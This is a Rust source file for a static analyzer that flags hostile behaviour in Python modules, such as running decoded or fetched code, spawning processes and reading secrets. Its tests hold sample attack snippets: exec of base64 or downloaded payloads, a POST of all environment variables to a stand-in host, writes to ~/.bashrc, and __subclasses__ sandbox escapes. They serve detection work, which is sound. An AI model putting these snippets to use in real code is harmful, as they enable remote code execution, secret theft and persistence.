//! What a module does that a model has no need of: runs code that it hides or fetches, starts programs, sends secrets.
//!
//! A capability says what a callable can do; a deed says what this call does with what it is given. `exec` of a text
//! that was decoded a line above is another thing than `exec` of a constant, which is read here like any other source.
//! Deeds carry their place in the flow of the module, so that what runs by itself can be told from what somebody calls.

use crate::{
    capability::{Capability, by_detour, of_call},
    module::{Call, Module, Place, Value},
    python::parse,
};
use std::{
    collections::{BTreeMap, HashSet},
    ops::Range,
};
use wellhead_core::Budget;

/// A kind of deed, the worst first.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum DeedKind {
    /// Runs code that it decodes from data.
    HiddenCode,
    /// Runs code that it fetches from the network.
    DownloadedCode,
    /// Starts other programs.
    Process,
    /// Unpickles what it decodes or fetches.
    HiddenObject,
    /// Installs packages.
    Install,
    /// Names files that run at every start, and writes files.
    Startup,
    /// Names files of credentials, or reads tokens or all of the environment.
    Secrets,
    /// Loads a native library.
    Native,
    /// Speaks to the network.
    Network,
    /// Runs code that is put together at run time, from what cannot be known.
    BuiltCode,
}

impl DeedKind {
    /// What it does, as the end of "`file.py` …".
    pub fn verb(self) -> &'static str {
        match self {
            Self::HiddenCode => "runs code that it decodes from data",
            Self::DownloadedCode => "runs code that it fetches from the network",
            Self::Process => "starts other programs",
            Self::HiddenObject => "unpickles data that it decodes or fetches",
            Self::Install => "installs packages",
            Self::Startup => "writes files and names ones that run at every start",
            Self::Secrets => "reads secrets",
            Self::Native => "loads native code",
            Self::Network => "speaks to the network",
            Self::BuiltCode => "runs code that it puts together itself",
        }
    }

    /// The name in machine formats.
    pub fn name(self) -> &'static str {
        match self {
            Self::HiddenCode => "hidden-code",
            Self::DownloadedCode => "downloaded-code",
            Self::Process => "process",
            Self::HiddenObject => "hidden-object",
            Self::Install => "install",
            Self::Startup => "startup",
            Self::Secrets => "secrets",
            Self::Native => "native",
            Self::Network => "network",
            Self::BuiltCode => "built-code",
        }
    }
}

/// Something that a module does.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Deed {
    /// What.
    pub kind: DeedKind,
    /// By which callable, or the name of what it reads.
    pub what: String,
    /// What is given to it, where that is known: a command, a URL. From outside.
    pub given: Option<String>,
    /// Where.
    pub range: Range<usize>,
    /// Where in the module's flow.
    pub place: Place,
}

/// Most deeds that are kept of a module; more of them would not be read.
const MOST: usize = 400;
/// How deep code in constants of code is followed.
const DEEPEST: usize = 3;
/// Longest constant that is read as code.
const LONGEST: usize = 64 << 10;

/// Programs that only tell something of the machine.
const HARMLESS: &[&str] = &[
    "nvidia-smi",
    "rocm-smi",
    "nvcc",
    "nproc",
    "lscpu",
    "uname",
    "sysctl",
    "hostname",
    "which",
    "where",
    "git",
    "gcc",
    "g++",
    "cc",
    "c++",
    "ffmpeg",
    "ffprobe",
    "sox",
    "nvidia-settings",
    "ldconfig",
];

/// What a module does.
pub fn deeds(module: &Module, budget: &mut Budget) -> Vec<Deed> {
    let mut out = Vec::new();
    gather(module, budget, 0, &mut out);
    out.sort_by(|a, b| {
        let key = |d: &Deed| (d.range.start, d.kind, d.range.end);
        key(a).cmp(&key(b)).then_with(|| a.what.cmp(&b.what))
    });
    out.dedup();
    out
}

/// What a scope brings in that may become code.
#[derive(Clone, Copy, Debug, Default)]
struct Raw {
    decodes: bool,
    fetches: bool,
    /// Puts characters or bytes together from numbers.
    spells: bool,
}

struct Sources {
    scopes: BTreeMap<usize, Raw>,
}

impl Sources {
    fn of(module: &Module) -> Self {
        let mut scopes: BTreeMap<usize, Raw> = BTreeMap::new();
        for used in &module.uses {
            let raw = scopes.entry(used.place.scope).or_default();
            raw.decodes |= used.capability == Capability::Decode;
            raw.fetches |= used.capability == Capability::Network && connects(&used.what);
        }
        for call in &module.calls {
            if matches!(call.callee(), "chr" | "ord" | "bytes" | "bytearray" | "reversed") {
                scopes.entry(call.place.scope).or_default().spells = true;
            }
        }
        Self { scopes }
    }

    fn get(&self, scope: usize) -> Raw {
        self.scopes.get(&scope).copied().unwrap_or_default()
    }
}

fn gather(module: &Module, budget: &mut Budget, depth: usize, out: &mut Vec<Deed>) {
    let sources = Sources::of(module);
    for call in &module.calls {
        if out.len() >= MOST || budget.steps(1).is_err() {
            return;
        }
        for callee in &call.callees {
            judge(module, &sources, call, callee, budget, depth, out);
        }
    }
    uses(module, out);
}

fn judge(
    module: &Module,
    sources: &Sources,
    call: &Call,
    callee: &str,
    budget: &mut Budget,
    depth: usize,
    out: &mut Vec<Deed>,
) {
    let deed = |kind, given: Option<String>| Deed {
        kind,
        what: callee.to_owned(),
        given,
        range: call.range.clone(),
        place: call.place,
    };
    if runs_source(callee) {
        // Those that measure time are mostly given functions, and only a text is source.
        let measures = !is_execution(callee);
        let argument = if measures {
            call.argument(0, "stmt")
        } else {
            call.positional.first()
        };
        let mut constants = argument
            .into_iter()
            .flat_map(|a| a.value.texts())
            .filter(|t| t.len() <= LONGEST)
            .peekable();
        let unknown = argument.is_none_or(|a| a.value.is_uncertain());
        if constants.peek().is_some() && depth < DEEPEST {
            for text in constants {
                let inner = parse(text, budget);
                let from = out.len();
                gather(&inner, budget, depth.saturating_add(1), out);
                // Whatever the constant does is done where it is run.
                for deed in out.iter_mut().skip(from) {
                    deed.range = call.range.clone();
                    deed.place = call.place;
                }
            }
        }
        if measures {
            if argument.is_some_and(|a| came(&a.value).is_some()) {
                out.push(deed(origin(module, sources, call), None));
            }
        } else if unknown || argument.is_none() {
            out.push(deed(origin(module, sources, call), None));
        }
        return;
    }
    if matches!(callee, "runpy.run_path" | "runpy.run_module") {
        out.push(deed(DeedKind::BuiltCode, words(call)));
        return;
    }
    if reaches_inside(callee) || imports_other_file(callee, call) {
        out.push(deed(DeedKind::BuiltCode, words(call)));
        return;
    }
    if callee.starts_with("ctypes.") && is_libc_command(callee) {
        out.push(deed(DeedKind::Process, words(call)));
        return;
    }
    let Some(capability) = of_call(callee.strip_prefix("__builtins__.").unwrap_or(callee)) else {
        if callee.starts_with("pip.") || callee.starts_with("ensurepip.") {
            out.push(deed(DeedKind::Install, words(call)));
        }
        return;
    };
    match capability {
        Capability::Process if callee.ends_with("Error") || callee.ends_with("list2cmdline") => {}
        Capability::Process => {
            let given = words(call);
            let command = given.as_deref().unwrap_or_default();
            let kind = if command.contains("pip") && command.contains("install") && !command.contains("://") {
                DeedKind::Install
            } else {
                DeedKind::Process
            };
            if !is_harmless(command) {
                out.push(deed(kind, given));
            }
        }
        Capability::Network if connects(callee) => out.push(deed(DeedKind::Network, words(call))),
        Capability::Deserialize => {
            let kind = origin(module, sources, call);
            let value = call.positional.first().map(|a| &a.value);
            let direct = value.is_some_and(|v| came(v).is_some());
            // A pickle that is written out in the source hides what it does as well as one that is decoded.
            let constant =
                value.is_some_and(|v| v.alternatives().iter().any(|v| matches!(v, Value::Bytes(_))));
            let nested = brings(module, &call.range);
            let brought = kind != DeedKind::BuiltCode && (direct || nested.decodes || nested.fetches);
            if constant || brought {
                out.push(deed(DeedKind::HiddenObject, None));
            }
        }
        Capability::Native if callee != "mmap.mmap" && loads_library(callee) => {
            out.push(deed(DeedKind::Native, words(call)));
        }
        _ => {}
    }
}

/// Credentials, the environment, and files that run at every start.
fn uses(module: &Module, out: &mut Vec<Deed>) {
    let called: HashSet<(usize, usize)> = module
        .calls
        .iter()
        .map(|c| (c.callee_range.start, c.callee_range.end))
        .collect();
    let writes = module.uses.iter().any(|u| u.capability == Capability::FileWrite);
    for used in &module.uses {
        if out.len() >= MOST {
            return;
        }
        let (kind, what) = match used.capability {
            // `Thread(target=os.system)`: handed over to be called.
            Capability::Process if !called.contains(&(used.range.start, used.range.end)) => {
                (DeedKind::Process, used.what.clone())
            }
            Capability::Execution
                if !called.contains(&(used.range.start, used.range.end)) && runs_source(&used.what) =>
            {
                (DeedKind::BuiltCode, used.what.clone())
            }
            Capability::Credentials => (DeedKind::Secrets, used.what.clone()),
            Capability::Startup if writes => (DeedKind::Startup, used.what.clone()),
            Capability::Environment => match variable(&module.text, used.range.end) {
                Some(name) if is_secret(name) => (DeedKind::Secrets, name.to_owned()),
                Some("") => (DeedKind::Secrets, "all environment variables".to_owned()),
                _ => continue,
            },
            _ => continue,
        };
        out.push(Deed {
            kind,
            what,
            given: None,
            range: used.range.clone(),
            place: used.place,
        });
    }
}

/// Runs the source or the code object that it is given.
fn runs_source(callee: &str) -> bool {
    is_execution(callee)
        || matches!(
            callee,
            "timeit.timeit"
                | "timeit.repeat"
                | "timeit.Timer"
                | "cProfile.run"
                | "cProfile.runctx"
                | "profile.run"
        )
}

/// Calls what was fetched out of the inside of the interpreter: `f.__globals__["system"]("id")`.
fn reaches_inside(callee: &str) -> bool {
    const TABLES: &[&str] = &[".__globals__.", ".f_globals.", ".f_builtins.", ".__builtins__."];
    const METHODS: &[&str] = &[
        "get",
        "update",
        "items",
        "keys",
        "values",
        "copy",
        "pop",
        "popitem",
        "setdefault",
        "clear",
    ];
    if let Some(owner) = callee.strip_suffix(".__subclasses__()[]") {
        return owner == "object"
            || ["__class__", "__base", "__mro__"]
                .iter()
                .any(|n| owner.contains(n));
    }
    TABLES.iter().any(|table| {
        let rest = callee.rsplit_once(table).map(|(_, rest)| rest);
        // `frame.f_globals.get("__name__").startswith(…)` is no call of what the table holds.
        rest.is_some_and(|rest| !rest.contains('.') && !METHODS.contains(&rest) && !rest.starts_with("__"))
            || rest == Some("__import__")
    })
}

/// Imports a file that does not look like source.
fn imports_other_file(callee: &str, call: &Call) -> bool {
    let name = callee.strip_prefix("importlib.").unwrap_or(callee);
    let file = match name {
        "util.spec_from_file_location" => call.argument(1, "location"),
        "machinery.SourceFileLoader"
        | "machinery.SourcelessFileLoader"
        | "_bootstrap_external.SourceFileLoader"
        | "_bootstrap_external.SourcelessFileLoader" => call.argument(1, "path"),
        "zipimport.zipimporter" => call.argument(0, "archivepath"),
        _ => None,
    };
    file.is_some_and(|file| file.value.texts().any(|t| !t.ends_with(".py")))
}

/// Runs what it is given, and is for nothing else.
fn is_execution(callee: &str) -> bool {
    let callee = by_detour(callee).unwrap_or(callee);
    let name = callee.strip_prefix("builtins.").unwrap_or(callee);
    let name = name.strip_prefix("__builtins__.").unwrap_or(name);
    matches!(
        name,
        "exec"
            | "eval"
            | "types.FunctionType"
            | "execfile"
            | "code.InteractiveInterpreter().runcode"
            | "code.InteractiveInterpreter().runsource"
            | "code.InteractiveConsole().push"
            | "code.InteractiveConsole().runcode"
            | "code.InteractiveConsole().runsource"
    )
}

/// Where the code comes from that a call runs.
fn origin(module: &Module, sources: &Sources, call: &Call) -> DeedKind {
    let nested = brings(module, &call.range);
    let argument = call.positional.first().map(|a| &a.value);
    let direct = argument.and_then(came);
    let mut raw = Raw {
        decodes: nested.decodes || direct == Some(Capability::Decode),
        fetches: nested.fetches || direct == Some(Capability::Network),
        spells: false,
    };
    if !(raw.decodes || raw.fetches) {
        // What a name holds is not followed through calls: what its scope, or the function that made it, brings in
        // decides.
        let made_by = argument
            .into_iter()
            .flat_map(Value::alternatives)
            .filter_map(|v| match v {
                Value::Path(path) => module.flow.of_name(path.strip_prefix('.')?.split("()").next()?),
                _ => None,
            });
        for scope in made_by.chain([call.place.scope]) {
            let here = sources.get(scope);
            raw.decodes |= here.decodes;
            raw.fetches |= here.fetches;
            raw.spells |= here.spells;
        }
    }
    if raw.fetches {
        DeedKind::DownloadedCode
    } else if raw.decodes || raw.spells {
        DeedKind::HiddenCode
    } else {
        DeedKind::BuiltCode
    }
}

/// Whether a value is the result of decoding or of fetching: `base64.b64decode().decode()`.
fn came(value: &Value) -> Option<Capability> {
    value.alternatives().iter().find_map(|one| {
        let Value::Path(path) = one else { return None };
        path.match_indices("()").find_map(|(at, _)| {
            let callee = path.get(..at)?;
            match of_call(callee)? {
                Capability::Network if connects(callee) => Some(Capability::Network),
                Capability::Decode => Some(Capability::Decode),
                _ => None,
            }
        })
    })
}

/// What calls inside of a range bring in.
fn brings(module: &Module, range: &Range<usize>) -> Raw {
    let from = module.uses.partition_point(|u| u.range.start < range.start);
    let inside = module
        .uses
        .iter()
        .skip(from)
        .take_while(|u| u.range.start < range.end);
    let mut raw = Raw::default();
    for used in inside.take(64) {
        raw.decodes |= used.capability == Capability::Decode;
        raw.fetches |= used.capability == Capability::Network && connects(&used.what);
    }
    raw
}

/// Names of the network modules that reach nothing.
fn connects(callee: &str) -> bool {
    let name = callee.rsplit('.').next().unwrap_or(callee);
    !(matches!(
        name,
        "gethostname"
            | "getfqdn"
            | "timeout"
            | "error"
            | "inet_aton"
            | "inet_ntoa"
            | "htons"
            | "Request"
            | "Retry"
            | "HTTPAdapter"
            | "Timeout"
            | "Limits"
    ) || name.ends_with("Error")
        || name.ends_with("Exception")
        || callee.contains(".exceptions."))
}

/// A function of a C library that starts programs: `ctypes.CDLL(None).system`.
fn is_libc_command(callee: &str) -> bool {
    let name = callee.rsplit('.').next().unwrap_or(callee);
    matches!(
        name,
        "system" | "popen" | "execl" | "execv" | "execve" | "WinExec" | "ShellExecuteA" | "ShellExecuteW"
    ) || callee.contains(".kernel32.Create")
}

fn loads_library(callee: &str) -> bool {
    if callee.starts_with("ctypes.windll.") || callee.starts_with("ctypes.cdll.") {
        return true;
    }
    let name = callee.rsplit('.').next().unwrap_or(callee);
    matches!(
        name,
        "CDLL"
            | "PyDLL"
            | "WinDLL"
            | "OleDLL"
            | "LoadLibrary"
            | "dlopen"
            | "load_library"
            | "load"
            | "load_inline"
            | "CFUNCTYPE"
            | "memmove"
    )
}

/// The constant words of a call: a command, a URL.
fn words(call: &Call) -> Option<String> {
    let mut out: Vec<&str> = Vec::new();
    for argument in call.positional.iter().take(8) {
        for one in argument.value.alternatives().iter().take(2) {
            match one {
                Value::Text(text) => out.push(text),
                Value::List(items) => out.extend(items.iter().take(16).filter_map(Value::as_text)),
                _ => {}
            }
        }
    }
    (!out.is_empty()).then(|| out.join(" ").chars().take(400).collect())
}

/// A constant command without a shell's own signs, of a program that only tells something.
fn is_harmless(command: &str) -> bool {
    let program = command.split_whitespace().next().unwrap_or_default();
    let name = program.rsplit('/').next().unwrap_or(program);
    HARMLESS.contains(&name)
        && !command.contains(['|', ';', '&', '`', '$', '>', '<', '\n'])
        && !command.contains("http")
        && !command.contains("git clone")
        && !command.contains("ext::")
}

/// The variable that is read at the end of `os.environ` or `os.getenv`; the empty name for all of them.
fn variable(text: &str, end: usize) -> Option<&str> {
    let rest = text.get(end..)?;
    let rest = rest
        .strip_prefix(".get")
        .or_else(|| rest.strip_prefix(".pop"))
        .unwrap_or(rest);
    if let Some(inner) = rest.strip_prefix(['(', '[']) {
        let inner = inner.trim_start();
        let quote = inner.chars().next().filter(|c| matches!(c, '"' | '\''))?;
        return inner.get(1..)?.split(quote).next();
    }
    let whole = rest.starts_with([')', ',', '\n', '}'])
        || rest.starts_with(".items")
        || rest.starts_with(".copy")
        || rest.starts_with(".values");
    whole.then_some("")
}

fn is_secret(name: &str) -> bool {
    let name = name.to_ascii_uppercase();
    [
        "TOKEN",
        "SECRET",
        "PASSW",
        "CREDENTIAL",
        "API_KEY",
        "APIKEY",
        "ACCESS_KEY",
        "PRIVATE_KEY",
    ]
    .iter()
    .any(|part| name.contains(part))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::flow::Stage;

    fn told(source: &str) -> String {
        let module = parse(source, &mut Budget::default());
        let stages = module.flow.stages();
        let all: Vec<_> = deeds(&module, &mut Budget::default())
            .iter()
            .map(|d| format!("{} {:?}", d.kind.name(), Module::stage(d.place, &stages)))
            .collect();
        all.join(", ")
    }

    #[test]
    fn what_is_run_is_told_with_its_time() {
        for (source, expected) in [
            ("import os\nos.system('id')", "process Import"),
            ("import os\ndef f():\n    os.system('id')\nf()", "process Import"),
            ("import os\ndef f():\n    os.system('id')", "process Call"),
            (
                "import os\nclass M:\n    def __init__(self):\n        os.system('id')",
                "process Load",
            ),
            (
                "import os\nclass M:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')",
                "process Load",
            ),
            (
                "import os\nclass M:\n    def forward(self):\n        os.system('id')",
                "process Use",
            ),
            (
                "import os\nif __name__ == '__main__':\n    os.system('id')",
                "process Call",
            ),
            ("import os\nf = lambda c: os.system(c)", "process Use"),
            (
                "import base64\nexec(base64.b64decode('aWQ='))",
                "hidden-code Import",
            ),
            (
                "import base64, zlib\nd = zlib.decompress(base64.b64decode(b''))\nexec(d.decode())",
                "hidden-code Import",
            ),
            (
                "import base64\nd = base64.b64decode(b'')\nc = compile(d, '', 'exec')\nexec(c)",
                "hidden-code Import",
            ),
            (
                "import base64\ndef g():\n    return base64.b64decode(b'')\nexec(g())",
                "hidden-code Import",
            ),
            ("exec(''.join(chr(c ^ 1) for c in [1, 2]))", "hidden-code Import"),
            (
                "import requests\nexec(requests.get('http://a.example').text)",
                "downloaded-code Import, network Import",
            ),
            ("exec(\"import os\\nos.system('id')\")", "process Import"),
            ("__import__('os').system('id')", "process Import"),
            (
                "import importlib\nimportlib.import_module('subprocess').run(['id'])",
                "process Import",
            ),
            ("import os\ngetattr(os, 'sys' + 'tem')('id')", "process Import"),
            (
                "import builtins, base64\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode(''))",
                "hidden-code Import",
            ),
            (
                "import pickle, base64\npickle.loads(base64.b64decode(''))",
                "hidden-object Import",
            ),
            (
                "import os, requests\nrequests.post('http://a.example', data=dict(os.environ))",
                "network Import, secrets Import",
            ),
            ("import os\nos.environ['HF_TOKEN']", "secrets Import"),
            (
                "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
                "startup Import",
            ),
            (
                "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
                "install Import",
            ),
            ("import ctypes\nctypes.CDLL('./libx.so')", "native Import"),
            (
                "import ctypes\nctypes.CDLL(None).system(b'id')",
                "process Import, native Import",
            ),
            (
                "import base64\n__builtins__.exec(base64.b64decode(''))",
                "hidden-code Import",
            ),
            (
                "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()",
                "process Import",
            ),
            (
                "import atexit, os\natexit.register(os.system, 'id')",
                "process Import",
            ),
            ("import pickle\npickle.loads(b'x')", "hidden-object Import"),
            ("import runpy\nrunpy.run_path('x.py')", "built-code Import"),
            ("from os import *\nsystem('echo')", "process Import"),
            (
                "from subprocess import *\nrun(['x'])\nprint('y')",
                "process Import",
            ),
            (
                "def f():\n    import random\n    random._os.system('x')\nf()",
                "process Import",
            ),
            (
                "import torch\ntorch.serialization.os.system('x')",
                "process Import",
            ),
            ("import x\nx._builtins.exec(y)", "built-code Import"),
            (
                "().__class__.__base__.__subclasses__()[1].__init__.__globals__['system']('x')",
                "built-code Import",
            ),
            (
                "().__class__.__base__.__subclasses__()[132]('x')",
                "built-code Import",
            ),
            (
                "().__class__.__mro__[1].__subclasses__()[132]('x')",
                "built-code Import",
            ),
            (
                "import inspect\ninspect.currentframe().f_builtins['exec']('x')",
                "built-code Import",
            ),
            ("import pydoc\npydoc.locate('os.system')('x')", "process Import"),
            (
                "import pkgutil\npkgutil.resolve_name('os:system')('x')",
                "process Import",
            ),
            (
                "import operator, os\noperator.attrgetter('system')(os)('x')",
                "process Import",
            ),
            (
                "import operator, os\noperator.methodcaller('system', 'x')(os)",
                "process Import",
            ),
            (
                "import timeit\ntimeit.timeit(\"import os; os.system('x')\")",
                "process Import",
            ),
            (
                "import cProfile\ncProfile.run(\"import os; os.system('x')\")",
                "process Import",
            ),
            (
                "import code\ncode.InteractiveConsole().push(x)",
                "built-code Import",
            ),
            (
                "import _posixsubprocess\n_posixsubprocess.fork_exec(1)",
                "process Import",
            ),
            (
                "import importlib.util as u\ns = u.spec_from_file_location('x', 'weights.bin')",
                "built-code Import",
            ),
            (
                "from importlib.machinery import SourceFileLoader as L\nL('x', 'payload.txt').load_module()",
                "built-code Import",
            ),
            (
                "import zipimport\nzipimport.zipimporter('w.zip').load_module('x')",
                "built-code Import",
            ),
            ("@eval\n@str\ndef f(): pass", "built-code Import"),
            ("@exec\nclass C: pass", "built-code Import"),
            // Innocent twins.
            (
                "import inspect\ninspect.currentframe().f_back.f_globals.get('x', '').strip()",
                "",
            ),
            ("x = globals()['x']\ny = f.__globals__['z']", ""),
            (
                "from os import *\nfrom os.path import *\njoin('a', 'b')\nprint(getcwd())",
                "",
            ),
            (
                "from transformers import *\nmodel = run(1)\n@torch.no_grad()\ndef f(): pass",
                "",
            ),
            (
                "import timeit\ntimeit.timeit(lambda: 1)\ntimeit.timeit('x = 1')",
                "",
            ),
            (
                "import importlib.util as u\nu.spec_from_file_location('x', 'a/b.py')",
                "",
            ),
            (
                "import operator\noperator.attrgetter('name')(x)\noperator.itemgetter(1)(x)",
                "",
            ),
            ("class B: pass\nB.__subclasses__()[0]()", ""),
            ("import os\nrank = int(os.environ.get('LOCAL_RANK', 0))", ""),
            ("model.eval()\nx = eval", ""),
            (
                "import subprocess\nsubprocess.check_output(['nvidia-smi', '-L'])",
                "",
            ),
            ("import base64\nx = base64.b64decode('')", ""),
            (
                "import torch, pickle\nclass M:\n    def load(self, p):\n        return torch.load(p)",
                "",
            ),
            ("import re\nr = re.compile('x')\nexec('y = 1')", ""),
            ("def f(c):\n    return eval(c)", "built-code Call"),
            (
                "class M:\n    def __init__(self, c):\n        self.act = eval(c.act)",
                "built-code Load",
            ),
        ] {
            assert_eq!(told(source), expected, "{source}");
        }
    }

    #[test]
    fn stages_follow_calls_between_functions() {
        let module = parse(
            "def a():\n    b()\ndef b(): pass\ndef c(): pass\na()",
            &mut Budget::default(),
        );
        assert_eq!(
            module.flow.stages(),
            [Stage::Import, Stage::Import, Stage::Import, Stage::Call]
        );
    }
}
